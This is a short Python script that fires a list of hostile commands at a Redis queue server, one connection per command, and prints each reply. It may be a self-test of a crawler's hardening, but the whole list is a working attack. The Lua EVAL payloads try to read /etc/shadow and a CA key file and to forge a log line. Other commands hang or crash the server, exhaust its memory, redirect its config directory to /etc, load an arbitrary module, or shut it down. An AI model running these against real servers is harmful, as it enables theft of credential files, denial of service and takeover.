# A spider that attacks its queue: each line is sent by a connection of its own, and what
# comes back is printed. Arguments: host, password.
import sys
import redis

host, password = sys.argv[1:]
kilo = 'k ' * 1000
attacks = [
    ['EVAL', "local f,e=loadfile('/etc/shadow') return e", '0'],
    ['EVAL', "return dofile('/var/lib/crawlbox/ca/ca.pem')", '0'],
    ['EVAL', 'print("<0>crawlbox: lies in the journal")', '0'],
    ['EVAL', 'local t={} t[1]=t return t', '0'],
    ['EVAL', "return #string.rep('x', 100000000000)", '0'],
    ['EVAL', 'while true do end', '0'],
    ['SETRANGE', 'k', '200000000000', 'x'],
    ['SETRANGE', 'k', '9000000000000000000', 'x'],
    ['SETBIT', 'k', '4000000000000', '1'],
    ['SETRANGE', 'k', '536870000', 'x'],
    ['BITCOUNT', 'text', '9223372036854775807', '9223372036854775807'],
    ['BITOP', 'OR', 'd'] + ['text'] * 100000,
    ['BLPOP'] + ['nothing'] * 100000 + ['0.1'],
    ['SRANDMEMBER', 'few', '-9223372036854775807'],
    ['ZINCRBY', 'z', 'nan', 'm'],
    ['KEYS', '*a' * 100000],
    ['CONFIG', 'SET', 'dir', '/etc'],
    ['MODULE', 'LOAD', '/tmp/x.so'],
    ['SLAVEOF', host, '7891'],
    ['MIGRATE', host, '8003', 'k', '0', '100'],
    ['DEBUG', 'SEGFAULT'],
    ['SHUTDOWN', 'NOSAVE'],
]


def connect():
    return redis.Redis(host=host, port=7891, password=password, socket_timeout=60)


c = connect()
c.set('text', 'abc')
c.sadd('few', 'a')
c.rpush('work', *range(100))
for attack in attacks:
    try:
        got = connect().execute_command(*attack)
        print(attack[0], attack[1][:30], '->', str(got)[:100])
    except redis.RedisError as e:
        print(attack[0], attack[1][:30], '->', type(e).__name__, str(e)[:160])
p = c.pipeline(transaction=False)
for _ in range(2000):
    p.execute_command('RPUSH', 'k2', 'x' * 10000)
p.execute(raise_on_error=False)
print('left', c.llen('work'), c.ping())
